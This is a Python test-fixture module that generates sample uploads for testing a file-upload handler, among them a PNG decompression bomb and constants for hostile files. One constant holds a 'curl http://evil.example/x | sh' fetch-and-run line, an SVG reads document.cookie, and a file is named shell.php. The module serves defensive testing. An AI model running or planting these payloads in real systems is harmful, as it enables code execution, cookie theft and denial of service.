"""Files as people and attackers send them, made here from scratch (nothing binary is kept in the repository)."""

from __future__ import annotations

import io
import struct
import wave
import zlib

from PIL import Image

GPS_IFD, ORIENTATION, MAKE, MODEL = 0x8825, 0x0112, 0x010F, 0x0110


def phone_photo(width: int = 400, height: int = 200, orientation: int = 6) -> bytes:
    """A JPEG the way a phone writes one: camera make and model, a GPS position, and an orientation tag that
    says the sensor's landscape picture is to be shown as portrait."""
    img = Image.new("RGB", (width, height), (200, 40, 40))
    for x in range(width // 2):  # the left half darker, so a rotation shows
        for y in range(0, height, 4):
            img.putpixel((x, y), (10, 10, 10))
    exif = Image.Exif()
    exif[MAKE], exif[MODEL], exif[ORIENTATION] = "HUAWEI", "Mate 60 Pro", orientation
    exif.get_ifd(GPS_IFD).update({1: "N", 2: (28.0, 12.0, 30.5), 3: "E", 4: (112.0, 58.0, 12.2)})
    out = io.BytesIO()
    img.save(out, "JPEG", exif=exif, quality=90)
    return out.getvalue()


def png(mode: str = "RGB", size: tuple[int, int] = (64, 48)) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, (0, 128, 255, 100) if mode == "RGBA" else (0, 128, 255)).save(out, "PNG")
    return out.getvalue()


def animated_gif() -> bytes:
    frames = [Image.new("P", (40, 30), i * 40) for i in range(3)]
    out = io.BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:], duration=100, loop=0)
    return out.getvalue()


def png_bomb(width: int = 100_000, height: int = 100_000) -> bytes:
    """A few hundred bytes whose header claims ten gigapixels: a decompression bomb. The IDAT is a valid zlib
    stream of a little data; a decoder that trusted the header would allocate for 10^10 pixels first."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\0" * 4096)) + chunk(b"IEND", b"")


def wav_recording(seconds: float = 0.5) -> bytes:
    out = io.BytesIO()
    with wave.open(out, "wb") as w:
        w.setnchannels(1)
        w.setsampwidth(2)
        w.setframerate(8000)  # a phone line's rate
        w.writeframes(b"\x00\x10" * int(8000 * seconds))
    return out.getvalue()


MP3_WITH_ID3 = b"ID3\x03\x00\x00\x00\x00\x00\x0f" + b"\x00" * 15 + b"\xff\xfb\x90\x64" + b"\x00" * 400
SCRIPT_AS_JPG = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
SVG_WITH_SCRIPT = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)">'
                   b"<script>fetch('/api/tickets')</script><rect width='10' height='10'/></svg>")
HTML_AS_PNG = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
PHP_IN_JPEG_NAME = "shell.php"
ZIP_FILE = b"PK\x03\x04" + b"\x00" * 100


def truncated_jpeg() -> bytes:
    return phone_photo()[:600]


class FailingSecondWrite:
    """A file store refusing its second write (the thumbnail): a full disk, or S3 gone mid-upload."""

    def __init__(self, real):
        self.real, self.writes = real, 0

    def put(self, key, data, content_type):
        self.writes += 1
        if self.writes == 2:
            raise OSError("No space left on device")
        self.real.put(key, data, content_type)

    def __getattr__(self, name):
        return getattr(self.real, name)
